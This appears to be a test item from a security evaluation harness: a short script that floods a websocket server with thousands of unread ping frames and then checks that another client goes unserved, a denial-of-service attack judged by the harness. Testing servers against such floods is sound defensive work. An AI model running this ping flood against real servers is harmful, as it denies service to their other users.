# aim: have the server do nothing else
# mechanism: very many pings whose answers are not read
# server: websocket
# plain: naive

def attack():
    with websocket(f"{here}/live", mine.key) as live:
        live.until(b"ready")
        live.flood(frame(b"x" * 100, kind=PING) * 5_000, 40)
        return not victim_is_served() and "others are not answered"


judge(attack)
